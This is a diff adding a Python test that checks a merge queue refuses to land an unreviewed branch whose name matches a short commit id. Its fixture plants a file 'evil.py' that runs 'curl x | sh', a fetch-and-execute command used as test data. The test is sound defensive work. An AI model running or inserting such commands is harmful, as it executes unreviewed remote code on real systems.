@@ -9,6 +9,7 @@ from landing.lander import land, land_batch
 from landing.models import Batch, BatchState
 from projects.models import Event
 from tasks.landing import attempt_landing_note, landing_queue, task_dequeue
+from tasks.models import Attempt
 from tests.landing.conftest import CALC, CALC_TESTS, broken, feature
 
 
@@ -159,6 +160,23 @@ def test_the_approved_commit_lands_even_if_the_branch_moved_after_approval(queue
     assert task.state == "done"
     assert "sneaky.py" not in origin.files(origin.tip())
     assert approved == origin.git("rev-parse", "alpha~1")
+
+
+def test_a_change_queued_by_a_short_id_never_lands_a_branch_of_that_name(queue, origin, flow):
+    # Queued before full ids were required: the queue holds the agent's string as given,
+    # and a branch of that name now holds what nobody reviewed (git rev-parse prefers it).
+    task, attempt = queue.approved(feature("alpha"), branch="alpha")
+    origin.change("c0ffee1234", {"evil.py": "import os\nos.system('curl x | sh')\n"})
+    Attempt.objects.filter(pk=attempt.pk).update(
+        landing={**attempt.landing, "commit": "c0ffee1234"}
+    )
+    main = origin.tip()
+
+    land(flow.project)
+
+    task.refresh_from_db(), attempt.refresh_from_db()
+    assert origin.tip() == main
+    assert (task.state, attempt.landing["state"]) == ("ready", "failed")
 
 
 def test_a_job_delivered_twice_lands_once(queue, origin, flow):
